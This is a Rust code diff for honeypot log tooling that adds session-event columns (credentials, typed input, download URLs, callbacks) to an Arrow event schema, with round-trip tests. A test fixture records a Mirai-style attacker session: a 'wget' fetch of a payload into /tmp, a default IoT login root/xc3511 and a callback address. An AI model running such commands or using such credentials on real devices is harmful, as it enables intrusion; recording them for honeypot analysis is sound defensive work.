@@ -13,7 +13,8 @@ use arrow_buffer::{ArrowNativeType, Buffer, NullBuffer, OffsetBuffer, ScalarBuff
 use arrow_schema::{DataType, Field, Schema, SchemaRef, TimeUnit};
 use honeyscope_event::honeyd::PacketLine;
 use honeyscope_event::{
-    Event, LifecycleEvent, LogState, PacketEvent, PacketKind, PayloadEvent, TcpFlags, Timestamp,
+    Event, LifecycleEvent, LogState, PacketEvent, PacketKind, PayloadEvent, SessionEvent,
+    SessionEventId, TcpFlags, Timestamp,
 };
 
 /// Column names, in schema order.
@@ -38,10 +39,92 @@ pub mod col {
     pub const PAYLOAD_SIZE: &str = "payload_size";
     pub const PAYLOAD_SHA256: &str = "payload_sha256";
     pub const PAYLOAD_HEAD: &str = "payload_head";
+    pub const EVENTID: &str = "eventid";
+    pub const SESSION: &str = "session";
+    pub const PROTOCOL: &str = "protocol";
+    pub const USERNAME: &str = "username";
+    pub const PASSWORD: &str = "password";
+    pub const INPUT: &str = "input";
+    pub const URL: &str = "url";
+    pub const HOST: &str = "host";
+    pub const METHOD: &str = "method";
+    pub const OUTFILE: &str = "outfile";
+    pub const DESTFILE: &str = "destfile";
+    pub const FILENAME: &str = "filename";
+    pub const SHASUM: &str = "shasum";
+    pub const ARCH: &str = "arch";
+    pub const CALLBACK: &str = "callback";
+    /// JSON's `name` (of `cowrie.client.var`): a name less generic in SQL.
+    pub const VAR_NAME: &str = "var_name";
+    /// JSON's `value` (of `cowrie.client.var`).
+    pub const VAR_VALUE: &str = "var_value";
+    pub const TTYLOG: &str = "ttylog";
+    pub const MESSAGE: &str = "message";
+    pub const PROFILE: &str = "profile";
+    pub const PORT: &str = "port";
+    pub const SIZE: &str = "size";
+    pub const WIDTH: &str = "width";
+    pub const HEIGHT: &str = "height";
+    /// JSON's `duration` (float seconds), in whole microseconds.
+    pub const DURATION_US: &str = "duration_us";
 }
 
+/// Session events' text columns, in schema order (after the payload columns).
+const SESSION_TEXT: [&str; 20] = [
+    col::EVENTID,
+    col::SESSION,
+    col::PROTOCOL,
+    col::USERNAME,
+    col::PASSWORD,
+    col::INPUT,
+    col::URL,
+    col::HOST,
+    col::METHOD,
+    col::OUTFILE,
+    col::DESTFILE,
+    col::FILENAME,
+    col::SHASUM,
+    col::ARCH,
+    col::CALLBACK,
+    col::VAR_NAME,
+    col::VAR_VALUE,
+    col::TTYLOG,
+    col::MESSAGE,
+    col::PROFILE,
+];
+
+/// A session event's text fields in [`SESSION_TEXT`] order.
+fn session_text(s: &SessionEvent) -> [Option<&str>; 20] {
+    [
+        Some(s.eventid.as_str()),
+        Some(&s.session),
+        Some(&s.protocol),
+        s.username.as_deref(),
+        s.password.as_deref(),
+        s.input.as_deref(),
+        s.url.as_deref(),
+        s.host.as_deref(),
+        s.method.as_deref(),
+        s.outfile.as_deref(),
+        s.destfile.as_deref(),
+        s.filename.as_deref(),
+        s.shasum.as_deref(),
+        s.arch.as_deref(),
+        s.callback.as_deref(),
+        s.name.as_deref(),
+        s.value.as_deref(),
+        s.ttylog.as_deref(),
+        s.message.as_deref(),
+        s.profile.as_deref(),
+    ]
+}
+
+/// Index of the first session column in the schema.
+const SESSION_FIRST: usize = 20;
+
 /// The event schema (version 1). `kind` is `probe`, `flow_start` or `flow_end` for packet
-/// records and `log_started` or `log_stopped` for the log's own lifecycle. Adding a nullable column at the end is a compatible change;
+/// records, `payload` and `session` for those events, and `log_started` or `log_stopped`
+/// for the log's own lifecycle. Adding a nullable column at the end is a compatible change;
 /// anything else needs a new version and a note in `docs/EVENTS.md`.
 pub fn event_schema() -> SchemaRef {
     static SCHEMA: OnceLock<SchemaRef> = OnceLock::new();
@@ -75,6 +158,22 @@ pub fn event_schema() -> SchemaRef {
                 f(col::PAYLOAD_SHA256, DataType::Utf8, true),
                 f(col::PAYLOAD_HEAD, DataType::Utf8, true),
             ]);
+            // Added for session events, likewise: their text fields, then their numbers.
+            let mut fields = schema.fields().to_vec();
+            debug_assert_eq!(fields.len(), SESSION_FIRST);
+            for name in SESSION_TEXT {
+                fields.push(Arc::new(f(name, DataType::Utf8, true)));
+            }
+            for (name, ty) in [
+                (col::PORT, DataType::UInt16),
+                (col::SIZE, DataType::UInt64),
+                (col::WIDTH, DataType::UInt32),
+                (col::HEIGHT, DataType::UInt32),
+                (col::DURATION_US, DataType::UInt64),
+            ] {
+                fields.push(Arc::new(f(name, ty, true)));
+            }
+            schema = Schema::new(fields);
             schema
                 .metadata
                 .insert("honeyscope.schema".into(), "events/1".into());
@@ -207,6 +306,59 @@ pub struct EventBatchBuilder {
     /// Made on the first payload record, with nulls for the rows before it: batches
     /// without one (nearly all) pay nothing per row for these columns.
     payload: Option<PayloadCols>,
+    /// Made on the first session event, likewise.
+    session: Option<SessionCols>,
+}
+
+/// The session event's own columns.
+struct SessionCols {
+    /// In [`SESSION_TEXT`] order.
+    text: [StrCol; 20],
+    port: PrimCol<u16>,
+    size: PrimCol<u64>,
+    width: PrimCol<u32>,
+    height: PrimCol<u32>,
+    duration_us: PrimCol<u64>,
+}
+
+impl SessionCols {
+    fn new(rows_before: usize) -> Self {
+        let rows = rows_before + 16;
+        let mut c = SessionCols {
+            text: std::array::from_fn(|_| StrCol::with_capacity(rows, 16 * 16)),
+            port: PrimCol::with_capacity(rows),
+            size: PrimCol::with_capacity(rows),
+            width: PrimCol::with_capacity(rows),
+            height: PrimCol::with_capacity(rows),
+            duration_us: PrimCol::with_capacity(rows),
+        };
+        for _ in 0..rows_before {
+            c.push_none();
+        }
+        c
+    }
+
+    fn push(&mut self, s: &SessionEvent) {
+        for (col, v) in self.text.iter_mut().zip(session_text(s)) {
+            col.push(v);
+        }
+        self.port.push(s.port);
+        self.size.push(s.size);
+        self.width.push(s.width);
+        self.height.push(s.height);
+        self.duration_us.push(s.duration_us);
+    }
+
+    fn push_none(&mut self) {
+        for col in &mut self.text {
+            col.push(None);
+        }
+        self.port.push(None);
+        self.size.push(None);
+        self.width.push(None);
+        self.height.push(None);
+        self.duration_us.push(None);
+    }
 }
 
 /// The payload record's own columns.
@@ -265,6 +417,7 @@ impl EventBatchBuilder {
             os: s(4),
             remark: s(0),
             payload: None,
+            session: None,
         }
     }
 
@@ -311,7 +464,31 @@ impl EventBatchBuilder {
                 c.size.push(Some(d.size));
                 c.sha256.push(Some(&d.sha256));
                 c.head.push(Some(&d.head));
-                return;
+            }
+            Event::Session(s) => {
+                self.kind.push(Some("session"));
+                // The IP protocol is the service's transport, not part of the event.
+                self.proto.push(None);
+                self.proto_name.push(None);
+                self.src.push_ip(s.src);
+                self.sport.push(Some(s.sport));
+                self.dst.push_ip(s.dst);
+                self.dport.push(Some(s.dport));
+                for c in [
+                    &mut self.icmp_type,
+                    &mut self.icmp_code,
+                    &mut self.tcp_flags,
+                ] {
+                    c.push(None);
+                }
+                self.ip_len.push(None);
+                self.rx_bytes.push(None);
+                self.tx_bytes.push(None);
+                self.os.push(None);
+                self.remark.push(None);
+                self.session
+                    .get_or_insert_with(|| SessionCols::new(rows_before))
+                    .push(s);
             }
             Event::Packet(p) => self.append_packet(p),
             Event::Lifecycle(l) => {
@@ -332,8 +509,15 @@ impl EventBatchBuilder {
                 self.remark.push(None);
             }
         }
-        if let Some(c) = &mut self.payload {
-            c.push_none();
+        if !matches!(ev, Event::Payload(_)) {
+            if let Some(c) = &mut self.payload {
+                c.push_none();
+            }
+        }
+        if !matches!(ev, Event::Session(_)) {
+            if let Some(c) = &mut self.session {
+                c.push_none();
+            }
         }
     }
 
@@ -363,6 +547,9 @@ impl EventBatchBuilder {
         self.os.push(p.os);
         self.remark.push(p.remark);
         if let Some(c) = &mut self.payload {
+            c.push_none();
+        }
+        if let Some(c) = &mut self.session {
             c.push_none();
         }
     }
@@ -423,6 +610,24 @@ impl EventBatchBuilder {
                 columns.push(new_null_array(&DataType::Utf8, rows));
             }
         }
+        match self.session.take() {
+            Some(mut c) => {
+                for t in &mut c.text {
+                    columns.push(Arc::new(t.finish()));
+                }
+                columns.push(Arc::new(c.port.finish::<UInt16Type>()));
+                columns.push(Arc::new(c.size.finish::<UInt64Type>()));
+                columns.push(Arc::new(c.width.finish::<UInt32Type>()));
+                columns.push(Arc::new(c.height.finish::<UInt32Type>()));
+                columns.push(Arc::new(c.duration_us.finish::<UInt64Type>()));
+            }
+            None => {
+                let rows = columns[0].len();
+                for f in &event_schema().fields()[SESSION_FIRST..] {
+                    columns.push(new_null_array(f.data_type(), rows));
+                }
+            }
+        }
         // The columns match the schema by construction.
         RecordBatch::try_new(event_schema(), columns)
             .unwrap_or_else(|e| unreachable!("event columns match the schema: {e}"))
@@ -478,6 +683,9 @@ pub fn events_from_batch(batch: &RecordBatch) -> Result<Vec<Event>, SchemaMismat
         payload_text(col::PAYLOAD_HEAD),
     );
 
+    // Stores written before session events have none of their columns.
+    let session_cols = SessionColsIn::find(batch);
+
     fn text(a: &StringArray, i: usize) -> Option<&str> {
         (!a.is_null(i)).then(|| a.value(i))
     }
@@ -498,6 +706,54 @@ pub fn events_from_batch(batch: &RecordBatch) -> Result<Vec<Event>, SchemaMismat
         };
         let bad = |what: &str| SchemaMismatch(format!("row {i}: {what}"));
         let kind_name = kind.value(i);
+        if kind_name == "session" {
+            let c = session_cols
+                .as_ref()
+                .ok_or_else(|| bad("a session row without the session columns"))?;
+            let addr = |a: &StringArray| {
+                text(a, i)
+                    .and_then(|s| s.parse::<IpAddr>().ok())
+                    .ok_or_else(|| bad("bad address"))
+            };
+            let t = |k: usize| text(c.text[k], i).map(Box::<str>::from);
+            let eventid = text(c.text[0], i)
+                .and_then(SessionEventId::from_name)
+                .ok_or_else(|| bad("unknown eventid"))?;
+            let port = |a: &UInt16Array| get(a, i, |i| a.value(i) as u64).unwrap_or(0) as u16;
+            let mut s = SessionEvent::new(
+                time,
+                eventid,
+                text(c.text[1], i).ok_or_else(|| bad("no session"))?,
+                text(c.text[2], i).unwrap_or_default(),
+                (addr(src)?, port(sport)).into(),
+                (addr(dst)?, port(dport)).into(),
+            );
+            s.sensor = sensor;
+            s.username = t(3);
+            s.password = t(4);
+            s.input = t(5);
+            s.url = t(6);
+            s.host = t(7);
+            s.method = t(8);
+            s.outfile = t(9);
+            s.destfile = t(10);
+            s.filename = t(11);
+            s.shasum = t(12);
+            s.arch = t(13);
+            s.callback = t(14);
+            s.name = t(15);
+            s.value = t(16);
+            s.ttylog = t(17);
+            s.message = t(18);
+            s.profile = t(19);
+            s.port = get(c.port, i, |i| c.port.value(i) as u64).map(|v| v as u16);
+            s.size = get(c.size, i, |i| c.size.value(i));
+            s.width = get(c.width, i, |i| c.width.value(i) as u64).map(|v| v as u32);
+            s.height = get(c.height, i, |i| c.height.value(i) as u64).map(|v| v as u32);
+            s.duration_us = get(c.duration_us, i, |i| c.duration_us.value(i));
+            out.push(Event::Session(Box::new(s)));
+            continue;
+        }
         if kind_name == "payload" {
             let addr = |a: &StringArray| {
                 text(a, i)
@@ -557,6 +813,61 @@ pub fn events_from_batch(batch: &RecordBatch) -> Result<Vec<Event>, SchemaMismat
     Ok(out)
 }
 
+/// A batch's session columns, when it has all of them.
+struct SessionColsIn<'a> {
+    text: [&'a StringArray; 20],
+    port: &'a UInt16Array,
+    size: &'a UInt64Array,
+    width: &'a UInt32Array,
+    height: &'a UInt32Array,
+    duration_us: &'a UInt64Array,
+}
+
+impl<'a> SessionColsIn<'a> {
+    fn find(batch: &'a RecordBatch) -> Option<Self> {
+        fn c<'a, T: 'static>(b: &'a RecordBatch, name: &str) -> Option<&'a T> {
+            b.column_by_name(name)?.as_any().downcast_ref::<T>()
+        }
+        let text: Vec<&StringArray> = SESSION_TEXT
+            .iter()
+            .map(|n| c::<StringArray>(batch, n))
+            .collect::<Option<_>>()?;
+        Some(SessionColsIn {
+            text: text.try_into().ok()?,
+            port: c(batch, col::PORT)?,
+            size: c(batch, col::SIZE)?,
+            width: c(batch, col::WIDTH)?,
+            height: c(batch, col::HEIGHT)?,
+            duration_us: c(batch, col::DURATION_US)?,
+        })
+    }
+}
+
+/// A batch read from a store made to have the current event schema: columns found by
+/// name, and the nullable ones a file written before they were added (payload, session)
+/// filled with nulls. Extra columns are dropped.
+pub fn conform(batch: RecordBatch) -> Result<RecordBatch, SchemaMismatch> {
+    let schema = event_schema();
+    if batch.schema() == schema {
+        return Ok(batch);
+    }
+    let rows = batch.num_rows();
+    let columns = schema
+        .fields()
+        .iter()
+        .map(|f| match batch.column_by_name(f.name()) {
+            Some(c) if c.data_type() == f.data_type() => Ok(c.clone()),
+            Some(_) => Err(SchemaMismatch(format!(
+                "column {} has the wrong type",
+                f.name()
+            ))),
+            None if f.is_nullable() => Ok(new_null_array(f.data_type(), rows)),
+            None => Err(SchemaMismatch(format!("missing column {}", f.name()))),
+        })
+        .collect::<Result<Vec<_>, _>>()?;
+    RecordBatch::try_new(schema, columns).map_err(|e| SchemaMismatch(e.to_string()))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -594,6 +905,113 @@ mod tests {
         let c = batch.column_by_name(col::PAYLOAD_SHA256).unwrap();
         assert_eq!(c.null_count(), 1);
         assert_eq!(events_from_batch(&batch).unwrap(), vec![probe]);
+    }
+
+    fn session(id: SessionEventId, full: bool) -> Event {
+        let mut s = SessionEvent::new(
+            Timestamp(1_700_000_000_123_456),
+            id,
+            "a1b2c3d4e5f6",
+            "telnet",
+            "203.0.113.9:40000".parse().unwrap(),
+            "[2001:db8::7]:2323".parse().unwrap(),
+        );
+        if full {
+            s.sensor = Some("s1".into());
+            s.username = Some("root".into());
+            s.password = Some("xc3511".into());
+            s.input = Some("cd /tmp || cd /var; wget http://198.51.100.1/a -O .d\\x0d".into());
+            s.url = Some("http://198.51.100.1:8080/a".into());
+            s.host = Some("198.51.100.1".into());
+            s.port = Some(8080);
+            s.method = Some("wget".into());
+            s.outfile = Some("artifacts/ab".into());
+            s.destfile = Some("/tmp/.d".into());
+            s.filename = Some("/tmp/.e".into());
+            s.shasum = Some("ab".repeat(32).into());
+            s.size = Some(u64::MAX);
+            s.arch = Some("mips".into());
+            s.callback = Some("198.51.100.1:4444".into());
+            s.width = Some(u32::MAX);
+            s.height = Some(0);
+            s.name = Some("TERM".into());
+            s.value = Some("vt100 日本".into());
+            s.ttylog = Some("tty/a1b2c3d4e5f6.cast".into());
+            s.duration_us = Some(12_345_678);
+            s.message = Some("login attempt [root/xc3511] succeeded".into());
+            s.profile = Some("hikvision-dvr".into());
+        }
+        Event::Session(Box::new(s))
+    }
+
+    #[test]
+    fn session_events_survive_a_batch_and_cost_nothing_without_one() {
+        let tz = LocalZone::utc();
+        let probe = honeyd::parse_line(
+            b"2016-04-01-00:00:01.0000 tcp(6) - 203.0.113.9 4711 198.51.100.7 23: 40 S",
+            &tz,
+        )
+        .unwrap();
+        let payload = Event::Payload(PayloadEvent {
+            time: probe.time(),
+            sensor: None,
+            proto: 6,
+            src: "203.0.113.9".parse().unwrap(),
+            sport: 4711,
+            dst: "198.51.100.7".parse().unwrap(),
+            dport: 23,
+            size: 6,
+            sha256: "ab".repeat(32).into(),
+            head: "root\\x0d\\x0a".into(),
+        });
+        // A packet before the first session event, a payload between them, and every
+        // eventid bare and with every field.
+        let mut events = vec![probe.clone()];
+        for (n, &id) in SessionEventId::ALL.iter().enumerate() {
+            events.push(session(id, n % 2 == 0));
+            events.push(session(id, n % 2 == 1));
+            if n == 3 {
+                events.push(payload.clone());
+                events.push(probe.clone());
+            }
+        }
+        let mut b = EventBatchBuilder::with_capacity(2);
+        for ev in &events {
+            b.append(ev);
+        }
+        let batch = b.finish();
+        assert_eq!(batch.schema(), event_schema());
+        assert_eq!(events_from_batch(&batch).unwrap(), events);
+        // Without a session event the columns are all null.
+        b.append(&probe);
+        b.append(&payload);
+        let batch = b.finish();
+        let c = batch.column_by_name(col::EVENTID).unwrap();
+        assert_eq!(c.null_count(), 2);
+        assert_eq!(events_from_batch(&batch).unwrap(), vec![probe, payload]);
+    }
+
+    #[test]
+    fn batches_without_the_later_columns_conform() {
+        // A file written before the session columns: the first 20 columns only.
+        let mut b = EventBatchBuilder::default();
+        let ev = session(SessionEventId::Connect, true);
+        b.append(&ev);
+        let full = b.finish();
+        let old_schema = Arc::new(Schema::new(
+            full.schema().fields()[..SESSION_FIRST].to_vec(),
+        ));
+        let old =
+            RecordBatch::try_new(old_schema, full.columns()[..SESSION_FIRST].to_vec()).unwrap();
+        assert!(
+            events_from_batch(&old).is_err(),
+            "a session row needs its columns"
+        );
+        let conformed = conform(old).unwrap();
+        assert_eq!(conformed.schema(), event_schema());
+        assert!(conformed.column_by_name(col::EVENTID).unwrap().is_null(0));
+        assert_eq!(conform(full.clone()).unwrap(), full);
+        assert_eq!(events_from_batch(&full).unwrap(), vec![ev]);
     }
 
     #[test]
